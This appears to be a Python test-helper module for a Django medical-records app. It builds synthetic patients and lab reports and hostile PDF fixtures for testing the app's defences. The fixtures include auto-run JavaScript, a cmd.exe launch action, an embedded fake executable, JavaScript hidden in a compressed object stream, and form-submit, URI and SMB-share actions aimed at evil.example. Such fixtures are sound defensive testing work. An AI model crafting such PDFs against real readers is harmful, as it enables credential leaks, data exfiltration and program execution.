"""Small builders for tests of any app: a patient, a doctor, a stored document, real PDFs
(plain code, no pytest: see tests/test_test_helpers.py)."""

from __future__ import annotations

import io
import zlib
from datetime import date, datetime, timedelta
from itertools import count
from pathlib import Path
from typing import Any

from django.utils import timezone
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from vigie.accounts.models import Role, SealedTOTPDevice, User
from vigie.accounts.otp import TOTP_DEVICE_NAME
from vigie.records.identifiers import nir_key
from vigie.records.ingest import DocumentMeta, ingest
from vigie.records.models import CareRelationship, CareRole, Document, Patient
from vigie.records.results import Observation, ResultGroup, ResultSet

_seq = count(1)


def make_patient(family_name: str = "DURAND", *, with_ins: bool = True) -> Patient:
    n = next(_seq)
    # Commune and order from the sequence, unique up to a million patients per process: the
    # whole suite makes more than a thousand, and a four-digit commune made a 16-character INS.
    high, low = divmod(n, 1000)
    body = f"2850375{low:03d}{(low + high) % 1000:03d}"
    return Patient.objects.create(
        ipp=f"IPP{n:07d}",
        ins=f"{body}{nir_key(body):02d}" if with_ins else None,
        family_name=family_name,
        given_names="Camille",
        birth_date=date(1985, 3, 14),
        sex="F",
    )


def make_doctor(username: str = "dr.test") -> User:
    return User.objects.create_user(username=f"{username}{next(_seq)}", role=Role.DOCTOR)


def make_document(patient: Patient, content: bytes = b"%PDF-1.4 test", **meta: object) -> Document:
    fields: dict[str, object] = {
        "kind": "lab_result",
        "title": "Numération formule sanguine",
        "clinical_date": date(2026, 11, 2),
        "source_system": "LABO-TEST",
        "author": "Dr Biologiste",
    }
    fields.update(meta)
    return ingest(patient, DocumentMeta(**fields), io.BytesIO(content))  # type: ignore[arg-type]


def seed_reading_doctor(
    *,
    password: str,
    pdf: str,
    username: str,
    first_name: str,
    last_name: str,
    ipp: str,
    family_name: str,
    given_names: str,
    source_system: str,
) -> dict[str, Any]:
    """One doctor (`password` and a confirmed authenticator), one patient in their care, and
    the file `pdf` stored as that patient's lab result: an installation that a whole-system
    test or a benchmark signs in to like a person and reads from. Run in that
    installation's `vigie shell` (its own home, keys and database, not the caller's):

        print(MARK + json.dumps(seed_reading_doctor(**json.loads(open(ARGS).read()))))

    Returns what the caller goes on with, as JSON: the document's id and the
    authenticator's key (hex), to compute the codes the doctor types.
    """
    user = User(username=username, first_name=first_name, last_name=last_name, role=Role.DOCTOR)
    user.set_password(password)
    user.save()
    # The object that creates a device keeps its key in memory (the table holds it sealed).
    device = SealedTOTPDevice.objects.create(user=user, name=TOTP_DEVICE_NAME, confirmed=True)
    patient = Patient.objects.create(
        ipp=ipp, family_name=family_name, given_names=given_names, birth_date=date(1970, 1, 1)
    )
    CareRelationship.objects.create(
        doctor=user,
        patient=patient,
        role=CareRole.TREATING,
        valid_from=timezone.now() - timedelta(days=1),
    )
    meta = DocumentMeta(
        kind="lab_result",
        title="Bilan sanguin",
        clinical_date=date.today(),
        source_system=source_system,
        author="Laboratoire",
    )
    with Path(pdf).open("rb") as handle:
        document = ingest(patient, meta, handle)
    return {"document": document.id, "totp_key": device.key}


def lab_report_pdf() -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4)
    page.drawString(72, 800, "Laboratoire Test - Numeration formule sanguine")
    page.drawString(72, 780, "Hemoglobine 13.2 g/dL (12.0-16.0)")
    page.showPage()
    page.save()
    return buffer.getvalue()


VALID_PDF = lab_report_pdf()


def pdf_writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(VALID_PDF)))


def pdf_bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_document_javascript() -> bytes:
    # pypdf 7 removed add_js(); add_open_action() is its replacement: document-level
    # JavaScript in the catalog's /Names tree, run when the file opens.
    writer = pdf_writer()
    writer.add_open_action(JavaScript("app.alert('pwned');"))
    return pdf_bytes(writer)


def pdf_with_open_action_javascript() -> bytes:
    writer = pdf_writer()
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example/');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return pdf_bytes(writer)


def pdf_with_page_open_javascript() -> bytes:
    writer = pdf_writer()
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('page');"))
    return pdf_bytes(writer)


def pdf_with_launch_action() -> bytes:
    # A link annotation that launches a program when clicked: no JavaScript anywhere.
    writer = pdf_writer()
    launch = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("C:\\Windows\\System32\\cmd.exe"),
        }
    )
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
            NameObject("/A"): launch,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return pdf_bytes(writer)


def pdf_with_embedded_file() -> bytes:
    writer = pdf_writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return pdf_bytes(writer)


def pdf_with_javascript_in_object_stream(
    action: bytes = b"<</Type/Action/S/JavaScript/JS(app.launchURL\\('https://evil.example/'\\))>>",
    *,
    action_index: int = 3,
) -> bytes:
    """The catalog and its OpenAction JavaScript inside a Flate-compressed object stream.

    pypdf 7 writes no object streams (its `compress_identical_objects` only deduplicates),
    so this PDF 1.5 file is assembled by hand: object stream 5 holds objects 1-4, and a
    cross-reference stream (object 6) says where. No active name appears in the raw bytes.
    """
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        4: action,
    }
    body = b""
    offsets = []
    for number, text in objects.items():
        offsets.append(f"{number} {len(body)}".encode())
        body += text + b"\n"
    header = b" ".join(offsets) + b"\n"
    packed = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stm_offset = len(out)
    out += (
        f"5 0 obj\n<</Type/ObjStm/N {len(objects)}/First {len(header)}"
        f"/Filter/FlateDecode/Length {len(packed)}>>\nstream\n"
    ).encode()
    out += packed + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    # Entries: type (1 byte), field 2 (2 bytes), field 3 (2 bytes) — /W [1 2 2].
    rows = [bytes([0, 0, 0, 0xFF, 0xFF])]  # object 0: head of the free list
    rows += [bytes([2, 0, 5, 0, index]) for index in range(len(objects) - 1)]  # 1-3 in stream 5
    rows.append(bytes([2, 0, 5, 0, action_index]))  # 4: the action, where the xref says
    rows.append(bytes([1]) + stm_offset.to_bytes(2, "big") + b"\x00\x00")  # 5: at offset
    rows.append(bytes([1]) + xref_offset.to_bytes(2, "big") + b"\x00\x00")  # 6: this stream
    table = b"".join(rows)
    out += (
        f"6 0 obj\n<</Type/XRef/Size 7/W[1 2 2]/Root 1 0 R/Length {len(table)}>>\nstream\n"
    ).encode()
    out += table + b"\nendstream\nendobj\n"
    out += f"startxref\n{xref_offset}\n%%EOF\n".encode()
    return bytes(out)


def pdf_with_link_action(action: DictionaryObject) -> bytes:
    """A link annotation on the first page whose action is `action` (clicked, not opened)."""
    writer = pdf_writer()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return pdf_bytes(writer)


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


# Actions that leave the document: to a web address, to another file (an SMB share leaks the
# reader's Windows credentials), or that send or pull form data.
ACTION_ATTACKS = {
    "uri": (_action("/URI", URI="https://evil.example/?leak"), "uri_action"),
    "gotor": (_action("/GoToR", F="\\\\evil.example\\share\\next.pdf"), "remote_goto"),
    "submit_form": (_action("/SubmitForm", F="https://evil.example/collect"), "submit_form"),
    "import_data": (_action("/ImportData", F="\\\\evil.example\\share\\data.fdf"), "import_data"),
    "launch": (_action("/Launch", F="C:\\Windows\\System32\\cmd.exe"), "launch_action"),
}


def sample_results(
    potassium: str = "5.9", flag: str = "H", *, when: datetime | None = None, **group: object
) -> ResultSet:
    """A small lab report as a channel would hand it over: a LOINC-coded numeric value
    (potassium, flagged), a lab-local one, a text result with a comment."""
    at = when or datetime(2026, 11, 2, 8, 30)
    observations = (
        Observation.from_text(
            code="2823-3",
            code_system="LN",
            label="Potassium",
            value=potassium,
            unit="mmol/L",
            reference_range="3.5-5.0",
            flag=flag,
            status="F",
            observed_at=at,
            value_type="NM",
        ),
        Observation.from_text(
            code="CREA",
            code_system="LABO-TEST",
            label="Créatinine",
            value="78",
            unit="µmol/L",
            reference_range="45-90",
            status="F",
            observed_at=at,
            value_type="NM",
        ),
        Observation.from_text(
            code="ASP",
            code_system="",
            label="Aspect du sérum",
            value="Limpide",
            status="F",
            observed_at=at,
            comments=("Prélèvement à jeun",),
            value_type="ST",
        ),
    )
    fields: dict[str, object] = {"code": "IONO", "label": "Ionogramme", "observed_at": at}
    fields.update(group)
    return ResultSet(
        source="LABO-TEST",
        groups=(ResultGroup(observations=observations, **fields),),  # type: ignore[arg-type]
        reference="R-0001",
    )


def make_lab_document(
    patient: Patient,
    results: ResultSet,
    *,
    message: bytes = b"MSH|^~\\&|LAB|LAB|||20261102||ORU^R01|1|P|2.5\r",
    attachment: bytes | None = None,
    **meta: object,
) -> Document:
    """A lab message stored with its results, as the HL7 channel stores one."""
    day = results.clinical_date or date(2026, 11, 2)
    fields: dict[str, object] = {
        "kind": "lab_result",
        "title": "Ionogramme",
        "clinical_date": day,
        "source_system": "LABO-TEST",
        "content_type": "application/hl7-v2",
    }
    fields.update(meta)
    return ingest(
        patient,
        DocumentMeta(**fields),  # type: ignore[arg-type]
        io.BytesIO(message),
        results=results,
        attachment=attachment,
    )
